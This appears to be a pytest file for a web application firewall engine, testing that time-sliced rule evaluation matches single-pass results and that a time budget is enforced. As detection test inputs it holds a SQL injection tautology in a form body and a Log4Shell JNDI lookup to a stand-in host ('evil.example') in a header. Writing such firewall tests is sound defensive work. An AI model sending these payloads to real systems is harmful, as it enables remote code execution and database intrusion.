"""The logical rules in a transaction: judged in turns they find what they find at once, and the budget ends them."""

from __future__ import annotations

import itertools
from collections.abc import Callable

import pytest

from bascule.waf.engine import ConnectionFacts, Transaction, Waf, WafSettings

NOBODY = ConnectionFacts(b"127.0.0.1", 1, b"127.0.0.1", 80)
FORM = (b"content-type", b"application/x-www-form-urlencoded")
STEP = 0.001


def ticking() -> Callable[[], float]:
    """A clock that goes on by STEP whenever somebody looks at it."""
    return (tick * STEP for tick in itertools.count()).__next__


def judge(
    body: bytes, turn: float, headers: list[tuple[bytes, bytes]] | None = None, **settings: object
) -> tuple[Transaction, int]:
    waf = Waf.load(WafSettings(logic="standard", protocol_rules=False, **settings), clock=ticking())  # type: ignore[arg-type]
    transaction = waf.begin(NOBODY)
    transaction.request_head(b"POST", b"/", b"1.1", [(b"host", b"x"), FORM, *(headers or [])])
    if body:
        transaction.request_body(body)
    transaction.request_end(turn)
    turns = 1
    while transaction.unfinished:
        transaction.go_on(turn)
        turns += 1
    transaction.finish()
    return transaction, turns


BODY = (
    b"&".join(b"p%d=O'Brien+said+%%3Cb%%3Ehello%%3C/b%%3E+%d" % (n, n) for n in range(1500))
    + b"&x=1%27+or+%271%27=%271"
)


@pytest.mark.parametrize("mode", ["block", "detect"])
def test_turns_change_nothing(mode: str) -> None:
    whole, once = judge(BODY, 0.0, mode=mode, time_budget=1e9)
    parts, turns = judge(BODY, STEP, mode=mode, time_budget=1e9)
    assert (once, turns > 1) == (1, True)
    assert [fired.rule.rule_id for fired in parts.fired] == [fired.rule.rule_id for fired in whole.fired] != []
    assert parts.verdict == whole.verdict
    assert (parts.verdict is None) == (mode == "detect")


def test_a_head_that_takes_long_is_judged_in_turns() -> None:
    many = [(b"x-%d" % n, b"O'Brien said <b>hello</b>" * 10) for n in range(100)]
    transaction, turns = judge(b"", STEP, [*many, (b"x-last", b"${jndi:ldap://evil.example/a}")], time_budget=1e9)
    assert turns > 1
    assert transaction.verdict is not None


@pytest.mark.parametrize(("policy", "refused"), [("closed", True), ("open", False)])
def test_the_budget_holds(policy: str, refused: bool) -> None:
    transaction, _ = judge(BODY, STEP, time_budget=4 * STEP, on_budget=policy)
    assert "time budget" in transaction.notes[0]
    assert (transaction.verdict is not None) == refused
